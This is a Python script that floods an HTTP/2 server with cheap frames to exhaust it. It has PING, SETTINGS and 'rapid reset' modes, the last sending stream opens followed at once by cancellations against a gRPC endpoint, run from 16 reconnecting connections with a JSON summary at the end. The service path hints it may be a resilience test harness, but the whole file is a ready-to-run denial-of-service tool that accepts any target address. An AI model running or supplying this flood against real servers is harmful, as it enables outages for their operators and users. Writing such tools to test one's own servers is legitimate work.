"""Floods a server with frames of HTTP/2 that cost their sender nothing.

    hostile_client.py ADDRESS KIND SECONDS

KIND: ping, settings, or reset (calls that are taken back at once). From several connections, each opened again when the
server closes it. At the end a line of JSON: how many frames were taken off us, and how many connections were closed.
"""

import json
import socket
import sys
import threading
import time

CONNECTIONS = 16
WAVE = 100
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING = 1, 3, 4, 6
END_HEADERS = 4


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = (
    field(b":method", b"POST")
    + field(b":scheme", b"http")
    + field(b":path", b"/carnet.v1.CreditService/Consume")
    + field(b":authority", b"carnet")
    + field(b"content-type", b"application/grpc")
    + field(b"te", b"trailers")
)


def wave(kind, first_stream):
    if kind == "ping":
        return frame(PING, 0, 0, b"flooding") * WAVE
    if kind == "settings":
        return frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * WAVE
    streams = range(first_stream, first_stream + 2 * WAVE, 2)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, CALL) + frame(RESET, 0, stream, b"\0\0\0\x08") for stream in streams
    )


class Flood:
    def __init__(self, address, kind, seconds):
        host, port = address.rsplit(":", 1)
        self.target, self.kind = (host, int(port)), kind
        self.end = time.monotonic() + seconds
        self.lock, self.told = threading.Lock(), {"kind": kind, "frames": 0, "closed": 0}

    def read_all(self, connection):
        try:
            while connection.recv(1 << 16):
                pass
        except OSError:
            pass

    def one_connection(self):
        frames, stream = 0, 1
        try:
            with socket.create_connection(self.target, timeout=5) as connection:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                threading.Thread(target=self.read_all, args=[connection], daemon=True).start()
                while time.monotonic() < self.end:
                    connection.sendall(wave(self.kind, stream))
                    frames, stream = frames + WAVE, stream + 2 * WAVE
        except OSError:
            with self.lock:
                self.told["closed"] += 1
        with self.lock:
            self.told["frames"] += frames

    def run(self):
        while time.monotonic() < self.end:
            self.one_connection()


def main(address, kind, seconds):
    flood = Flood(address, kind, float(seconds))
    threads = [threading.Thread(target=flood.run) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(flood.told))


if __name__ == "__main__":
    main(*sys.argv[1:4])
